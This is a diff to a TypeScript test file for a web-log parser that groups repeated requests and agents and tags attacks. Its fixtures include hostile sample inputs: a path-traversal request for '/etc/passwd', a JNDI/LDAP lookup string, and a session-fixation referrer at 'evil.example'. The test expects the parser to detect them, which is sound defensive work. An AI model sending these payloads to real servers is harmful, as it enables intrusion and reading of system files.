@@ -70,27 +70,37 @@ test('what comes again is remembered from the second time on, bounded in number 
   for (let times = 0; times < 3; times++) expect(of(long).kept).toBe(false);
 });
 
-test('events say what they share only where their request and sender are remembered', () => {
-  const alike = (request: string, agent: string, site = ''): object | undefined =>
-    decode(`${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET ${request} HTTP/1.1" 200 12 "-" "${agent}"`, 0)
-      ?.alike;
-  expect(alike('/shared', 'shared/1')).toBeUndefined();
-  const shared = alike('/shared', 'shared/1');
-  expect(shared).toBeDefined();
-  expect(alike('/shared', 'shared/1')).toEqual(shared);
-  expect(alike('/never before', 'shared/1')).toBeUndefined();
-  expect(alike('/shared', 'never before')).toBeUndefined();
-  for (let n = 0; n < 3; n++) {
-    // Whether this is an attack depends on the site's name, which is no part of what is shared.
-    expect(alike('/?sid=1', 'shared/1', 'shop.example:443 ')).toBeUndefined();
-    expect(
-      decode(
-        JSON.stringify({
-          message: `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /shared HTTP/1.1" 200 12 "-" "shared/1"`,
-          'cs-method': 'PUT',
-        }),
-        0,
-      )?.alike,
-    ).toBeUndefined();
-  }
+test('events say what they share only of parts that are remembered, and of attacks always', () => {
+  const partsOf = (request: string, agent: string, site = '', referrer = '-'): readonly (object | null)[] | undefined =>
+    decode(
+      `${site}192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET ${request} HTTP/1.1" 200 12 "${referrer}" "${agent}"`,
+      0,
+    )?.alike?.parts;
+  expect(partsOf('/shared', 'shared/1')).toEqual([null, null, []]);
+  const [request, sender, threats] = partsOf('/shared', 'shared/1')!;
+  expect([request, sender]).not.toContain(null);
+  const again = partsOf('/shared', 'shared/1')!;
+  expect([again[0] === request, again[1] === sender, again[2] === threats]).toEqual([true, true, true]);
+  const news = partsOf('/never before', 'shared/1')!;
+  expect([news[0] === null, news[1] === sender, news[2] === threats]).toEqual([true, true, true]);
+  const stranger = partsOf('/shared', 'never before')!;
+  expect([stranger[0] === request, stranger[1] === null]).toEqual([true, true]);
+
+  // Whether this is an attack depends on the site's name and the referrer, which are no part of the request.
+  const [asked, , quiet] = [0, 1, 2].map(() => partsOf('/?sid=1', 'shared/1', 'shop.example:443 '))[2]!;
+  const fixed = partsOf('/?sid=1', 'shared/1', 'shop.example:443 ', 'https://evil.example/')!;
+  expect([fixed[0] === asked, quiet === threats, fixed[2]]).toEqual([true, true, ['session-fixation']]);
+  const both = (): object | null => partsOf('/?a=../../../etc/passwd', `${'$'}{jndi:ldap://192.0.2.1/a}`)![2]!;
+  expect(both()).toEqual(['path-traversal', 'jndi', 'command-injection']);
+  expect(both()).toBe(both());
+
+  expect(
+    decode(
+      JSON.stringify({
+        message: `192.0.2.7 - - [24/Nov/2026:10:00:00 +0000] "GET /shared HTTP/1.1" 200 12 "-" "shared/1"`,
+        'cs-method': 'PUT',
+      }),
+      0,
+    )?.alike,
+  ).toBeUndefined();
 });
